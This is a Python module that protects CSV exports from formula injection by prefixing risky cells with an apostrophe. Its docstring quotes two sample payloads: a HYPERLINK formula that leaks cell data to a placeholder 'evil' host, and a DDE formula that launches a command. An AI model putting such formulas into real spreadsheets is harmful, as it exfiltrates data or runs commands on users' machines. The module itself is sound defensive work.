"""CSV that Dockstation writes (bench exports, KPIs, policy simulation, HQ's report): cells
neutralised against formula injection.

A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` (and, in some,
tab or CR) as a formula: a scanned code `=HYPERLINK("http://evil/?"&A1,"RMA")`, or a manifest
description `=cmd|' /C calc'!A0`, would run on a lead's or an accountant's PC (CSV injection,
OWASP). The rule OWASP gives: such a cell gets a leading `'`, which spreadsheets take as "text"
and do not show. The full-width forms (`＝`, `＋`, `－`, `＠`) are treated the same way, since
some spreadsheets fold them to the ASCII ones.

A cell that is a plain number (`-12.50`, `+3`, `1e5`) cannot be a formula and is left as it is,
so figures stay figures. Only CSV is changed: JSON exports keep every value exactly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet runs as a formula (module doc)."""
    if isinstance(value, str) and value and value[0] in TRIGGERS and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:
        kwargs.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
